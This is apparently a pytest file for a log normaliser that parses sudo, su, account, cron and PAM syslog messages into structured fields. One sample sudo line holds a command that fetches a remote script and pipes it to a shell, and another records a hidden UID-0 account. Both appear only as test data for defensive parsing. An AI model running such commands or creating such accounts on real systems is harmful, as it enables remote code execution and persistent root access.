"""sudo, su, account management, cron, logind and generic PAM messages."""

import pytest

from hostwarden.normalize.syslog import parse_message

CASES = [
    ("sudo", "    root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -s http://x/x.sh | sh",
     {"event.action": "sudo_command", "user.name": "root", "process.tty": "pts/1", "process.working_directory": "/root",
      "user.effective.name": "root", "process.command_line": "/usr/bin/curl -s http://x/x.sh | sh", "event.outcome": "success"}),
    ("sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; ENV=A=1 ; COMMAND=/usr/bin/id",
     {"event.action": "sudo_command", "user.name": "alice", "process.command_line": "/usr/bin/id"}),
    ("sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
     {"event.action": "sudo_auth_failure", "event.outcome": "failure", "user.name": "alice"}),
    ("sudo", "mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
     {"event.action": "sudo_not_in_sudoers", "event.outcome": "failure", "user.name": "mallory"}),
    ("sudo", "bob : command not allowed ; TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
     {"event.action": "sudo_command_refused", "error.message": "command not allowed"}),
    ("su", "Successful su for root by alice", {"event.action": "su_success", "user.name": "alice", "user.effective.name": "root"}),
    ("su", "FAILED su for root by alice", {"event.action": "su_failure", "event.outcome": "failure"}),
    ("su", "+ pts/0 alice:root", {"event.action": "su_success", "process.tty": "pts/0", "user.effective.name": "root"}),
    ("su", "- pts/0 alice:root", {"event.action": "su_failure", "user.name": "alice"}),
    ("su", "FAILED SU (to root) alice on pts/0", {"event.action": "su_failure", "user.name": "alice"}),
    ("su", "(to root) alice on pts/0", {"event.action": "su_success", "user.name": "alice"}),
    ("useradd", "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
     {"event.action": "user_created", "user.target.name": "sysupdate", "user.id": "0", "event.dataset": "accounts"}),
    ("useradd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash",
     {"event.action": "user_created", "user.id": "1001"}),
    ("groupadd", "new group: name=bob, GID=1001", {"event.action": "group_created", "group.name": "bob"}),
    ("userdel", "delete user 'bob'", {"event.action": "user_deleted", "user.target.name": "bob"}),
    ("usermod", "add 'bob' to group 'sudo'", {"event.action": "user_added_to_group", "group.name": "sudo"}),
    ("usermod", "change user 'bob' shell from '/bin/sh' to '/bin/bash'", {"event.action": "user_changed"}),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for bob", {"event.action": "password_changed", "user.target.name": "bob"}),
    ("chpasswd", "pam_unix(chpasswd:chauthtok): password changed for root", {"event.action": "password_changed"}),
    ("CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
     {"event.action": "cron_command", "user.name": "root", "process.command_line": "cd / && run-parts --report /etc/cron.hourly"}),
    ("crontab", "(alice) REPLACE (alice)", {"event.action": "crontab_replaced", "user.target.name": "alice"}),
    ("crontab", "(alice) BEGIN EDIT (alice)", {"event.action": "crontab_edit"}),
    ("cron", "(*system*) RELOAD (/etc/cron.d/)", {"event.action": "cron_reload", "file.path": "/etc/cron.d/"}),
    ("anacron", "Job `cron.daily' started", {"event.action": "cron_job_started"}),
    ("systemd-logind", "New session 12 of user alice.", {"event.action": "session_started", "user.name": "alice"}),
    ("systemd-logind", "Removed session 12.", {"event.action": "session_removed"}),
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4  user=root",
     {"event.action": "pam_auth_failure", "source.ip": "1.2.3.4", "user.name": "root", "event.dataset": "sshd"}),
    ("sshd(pam_unix)", "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ",
     {"event.action": "pam_auth_failure", "source.ip": "218.188.2.4", "event.dataset": "sshd"}),
    ("vsftpd", "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=an8767 rhost=www.example.com",
     {"event.action": "pam_auth_failure", "source.domain": "www.example.com", "event.dataset": "pam"}),
    ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
     {"event.action": "pam_session_opened", "user.name": "root", "event.dataset": "cron"}),
    ("su(pam_unix)", "session opened for user cyrus by (uid=0)", {"event.action": "pam_session_opened", "user.name": "cyrus"}),
    ("su(pam_unix)", "session closed for user cyrus", {"event.action": "pam_session_closed"}),
    ("sshd(pam_unix)", "check pass; user unknown", {"event.action": "pam_user_unknown", "event.outcome": "failure"}),
    ("login", "FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure", {"event.action": "login_failed", "user.name": "root"}),
    ("login", "ROOT LOGIN ON tty2", {"event.action": "root_login", "user.name": "root"}),
    ("sshd", "pam_faillock(sshd:auth): Consecutive login failures for user root account temporarily locked",
     {"event.action": "pam_account_locked", "user.name": "root"}),
]


@pytest.mark.parametrize("program, message, expected", CASES)
def test_program_messages(program, message, expected):
    ev = parse_message(program, message)
    for key, value in expected.items():
        assert ev.get(key) == value, (key, ev)


@pytest.mark.parametrize(
    "program, message",
    [
        ("sudo", "pam_unix(sudo:session): session closed for user root"),  # a PAM line, not a sudo command
        ("useradd", "failed adding user 'bob', exit code: 9"),
        ("CRON", "(CRON) STARTUP (fork ok)"),
    ],
)
def test_near_misses_do_not_take_a_wrong_action(program, message):
    ev = parse_message(program, message)
    assert ev.get("event.action") not in ("sudo_command", "user_created", "cron_command")


def test_pam_uid_of_the_caller_is_not_taken_as_the_users_uid():
    ev = parse_message("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4  user=bob")
    assert "user.id" not in ev  # uid=0 is sshd's own uid: reporting it as bob's would fake a UID-0 login
